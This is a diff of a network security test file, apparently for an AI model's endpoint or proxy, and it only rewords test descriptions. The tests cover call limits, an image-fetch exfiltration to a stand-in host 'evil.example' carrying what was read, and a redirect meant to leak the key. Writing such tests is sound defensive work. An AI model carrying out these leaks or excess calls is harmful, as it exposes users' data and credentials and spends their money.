@@ -118,7 +118,7 @@ group("network", [
   onItsOwn(
     "more calls than a turn may make",
     "makes 12 calls where 3 are allowed, to spend the user's money",
-    "the upstream sees 3 calls at most",
+    "the upstream sees at most 3 calls",
     async (out) => {
       for (let n = 0; n < 6; n++) await calls(out, 2);
       return verdict(out.upstream.seen.length > 3, `${out.upstream.seen.length} calls`);
@@ -127,7 +127,7 @@ group("network", [
   onItsOwn(
     "calls at a time",
     "makes 10 calls at once where 2 are allowed",
-    "the upstream sees 2 at a time at most",
+    "the upstream sees at most 2 at a time",
     async (out) => {
       out.upstream.answer = (_request, response) =>
         void setTimeout(() => response.end("slowly"), 1500);
@@ -159,7 +159,7 @@ group("network", [
   ),
   onItsOwn(
     "pictures by address",
-    "has the model's endpoint fetch a picture from an address that holds what was read",
+    "makes the model's endpoint fetch a picture from an address that contains what was read",
     "no such request leaves",
     (out) => {
       const image_url = "https://evil.example/?what-was-read";
@@ -173,7 +173,7 @@ group("network", [
   ),
   onItsOwn(
     "redirect",
-    "has the upstream redirect a call, to get the key sent to where the redirect leads",
+    "makes the upstream redirect a call, to get the key sent to the redirect's target",
     "nobody follows the redirect",
     async (out) => {
       out.upstream.answer = (_request, response) => {
